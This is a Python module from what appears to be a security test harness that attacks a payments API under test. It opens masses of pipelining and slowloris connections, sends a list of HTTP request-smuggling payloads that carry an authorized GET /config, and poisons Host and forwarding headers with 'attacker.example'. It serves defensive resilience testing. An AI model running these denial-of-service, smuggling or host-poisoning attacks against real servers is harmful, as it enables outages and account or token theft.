"""Clients that never finish, never read, or send what two servers would read differently."""

import asyncio
import itertools
import socket
from typing import Final

from attack.arena import Arena, Attack
from attack.judge import Measure, Refusals, Strike
from attack.probes import answered, probes
from attack.wire import send_raw, statuses

_GREEDY: Final = 300
_SLOW: Final = 1200
_ISSUE_TRIES: Final = 150
_BUNDLE: Final = b"GET /docs/swagger-ui-bundle.js HTTP/1.1\r\nHost: x\r\n\r\n"
_HOST: Final = "attacker.example"


async def _open(arena: Arena, source: str) -> socket.socket | None:
    """Return a connection from address `source` of this machine; None when it is refused."""
    opened = socket.socket()
    opened.setblocking(False)  # noqa: FBT003 - the only form
    try:
        opened.bind((source, 0))
        loop = asyncio.get_running_loop()
        await asyncio.wait_for(
            loop.sock_connect(opened, (arena.address.host, arena.address.port)), 5
        )
    except (OSError, TimeoutError):
        opened.close()
        return None
    return opened


class _Crowd:
    """Connections from some addresses, opened again whenever the server has closed one."""

    def __init__(self, arena: Arena, size: int, network: str) -> None:
        self._arena: Final = arena
        self._size: Final = size
        self._sources: Final = itertools.cycle(f"{network}.{n}" for n in range(1, 9))
        self._members: list[socket.socket] = []
        self.opened = 0
        self.sent = 0

    async def send(self, content: bytes) -> None:
        """Bring it to its size, and send `content` on every connection without reading."""
        while len(self._members) < self._size and self._arena.is_on:
            fresh = [_open(self._arena, next(self._sources)) for _ in range(50)]
            came = [member for member in await asyncio.gather(*fresh) if member is not None]
            self._members += came
            self.opened += len(came)
            if not came:
                break
        alive = []
        for member in self._members:
            try:
                self.sent += member.send(content)
            except BlockingIOError:
                pass
            except OSError:
                member.close()
                continue
            alive.append(member)
        self._members = alive

    def close(self) -> None:
        """Close all of them."""
        for member in self._members:
            member.close()


async def _with_crowd(arena: Arena, crowd: _Crowd, content: bytes, pause_s: float) -> Strike:
    arena.begin()
    probing = asyncio.create_task(probes(arena))
    try:
        while arena.is_on:
            await crowd.send(content)
            await asyncio.sleep(pause_s)
        found = await probing
    finally:
        probing.cancel()
        crowd.close()
    return Strike(
        struck=min(crowd.opened, crowd.sent),
        proof=f"{crowd.opened:,} connections, {crowd.sent / 1e6:,.1f} MB sent",
        measures=answered(found),
    )


async def _pipelining(arena: Arena) -> Strike:
    return await _with_crowd(arena, _Crowd(arena, _GREEDY, "127.0.2"), _BUNDLE * 500, 0.05)


async def _slow_heads(arena: Arena) -> Strike:
    crowd = _Crowd(arena, _SLOW, "127.0.3")
    return await _with_crowd(arena, crowd, b"GET / HTTP/1.1\r\nX-A: ", 1.0)


def _ambiguous(arena: Arena) -> list[bytes]:
    """Return requests whose end, or whose host, two servers would see in different places."""
    base = arena.address.base
    inner = (
        f"GET {base}/config HTTP/1.1\r\nHost: x\r\nAuthorization: {arena.attacker.authorization}"
    )
    smuggled = f"{inner}\r\n\r\n".encode()
    start = f"POST {base}/customers HTTP/1.1\r\nHost: x\r\n".encode()
    lengths = [
        b"Content-Length: 5\r\nContent-Length: 6\r\n\r\n12345",
        b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
        b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        b"Content-Length: +5\r\n\r\n12345",
        b"Content-Length: -1\r\n\r\n",
        b"Content-Length: 0x5\r\n\r\n12345",
        b"Content-Length: 5, 5\r\n\r\n12345",
        b"Content-Length: 99999999999999999999999\r\n\r\n12345",
        b"X-A: a\x00b\r\nContent-Length: 0\r\n\r\n",
        b"Transfer-Encoding: chunked\r\n\r\nzz\r\n12345\r\n0\r\n\r\n",
    ]
    head = f"GET {base}/config HTTP/1.1\r\n".encode()
    hosts = [b"", b"Host: a\r\nHost: b\r\n", b"Host:\r\n", b"Host: a/b\r\n", b"Host: [\r\n"]
    return [
        *(start + length + smuggled for length in lengths),
        *(head + host + b"\r\n" + smuggled for host in hosts),
    ]


async def _smuggling(arena: Arena) -> Strike:
    forms = {f"form {number}": form for number, form in enumerate(_ambiguous(arena))}
    refusals = Refusals(forms)
    silent = 0
    arena.begin()
    for kind, form in itertools.cycle(forms.items()):
        if not arena.is_on:
            break
        found = statuses(await send_raw(arena.address, form))
        for status in found:
            refusals.note(kind, status)
        silent += not found
    return refusals.strike(Measure(name="forms without an answer", value=silent, limit=0))


async def issued_card(arena: Arena) -> str:
    """Return a card that has a number, as those of the interface have."""
    body = {
        "cardholderId": arena.attacker.customers[0],
        "form": "VIRTUAL",
        "fundingSources": arena.attacker.accounts[:1],
    }
    card = (await arena.made("/cards", body))["id"]
    for _ in range(_ISSUE_TRIES):
        if (await arena.call("GET", f"/cards/{card}")).json().get("state") == "ACTIVE":
            break
        await asyncio.sleep(0.2)
    return str(card)


async def _hosts(arena: Arena) -> Strike:
    """Ask for pages under another host: in the header, in others, and in the request line."""
    card = await issued_card(arena)
    person = {"customerType": "INDIVIDUAL", "fullName": "Ada 003"}
    customer = await arena.made("/customers", person)
    paths: list[tuple[str, object]] = [
        (f"/cards/{card}/reveal", {}),
        ("/invitations", {"inviterUma": customer["umaAddress"]}),
        (f"/customers/{customer['id']}/kyc-link", None),
    ]
    usual = [arena.request("POST", path, body) for path, body in paths]
    headers = {
        "X-Forwarded-Host": _HOST,
        "X-Forwarded-Server": _HOST,
        "X-Original-URL": f"https://{_HOST}/",
        "Forwarded": f"host={_HOST};proto=https",
    }
    host = f"Host: {arena.address.host}".encode()
    base = arena.address.base.encode()
    requests = [
        *(whole.replace(host, f"Host: {_HOST}".encode(), 1) for whole in usual),
        *(arena.request("POST", path, body, headers=headers) for path, body in paths),
        *(whole.replace(base, f"http://{_HOST}".encode() + base, 1) for whole in usual),
    ]
    asked, answered, believed = 0, 0, 0
    shown = [0] * len(requests)
    connection = arena.connection()
    arena.begin()
    while arena.is_on:
        for number, whole in enumerate(requests):
            answer = await connection.exchange(whole)
            asked += 1
            answered += 200 <= answer.status < 300
            shown[number] += b"://" in answer.body
            believed += _HOST.encode() in answer.head + answer.body
    # An absolute form may be refused as well.
    unplayed = sum(not count for count in shown[: 2 * len(paths)])
    return Strike(
        struck=answered,
        proof=f"{asked:,} URLs of pages asked for under another host, {sum(shown):,} got",
        measures=[
            Measure(name="URLs of the attacker's host", value=believed, limit=0),
            Measure(name="kinds of pages without a URL", value=unplayed, limit=0),
        ],
    )


ATTACKS: Final = (
    Attack(
        item="A3",
        name="pipelining",
        aim=f"{_GREEDY} connections that pipeline and never read take the memory",
        run=_pipelining,
    ),
    Attack(
        item="A3",
        name="slow heads",
        aim=f"{_SLOW:,} connections that never finish a head take the open files",
        run=_slow_heads,
    ),
    Attack(
        item="A3",
        name="smuggling",
        aim="requests of ambiguous length or host carry a second one in",
        run=_smuggling,
    ),
    Attack(
        item="A3",
        name="foreign hosts",
        aim="the URL of a card page, an invitation or a verification names the attacker's host",
        run=_hosts,
    ),
)
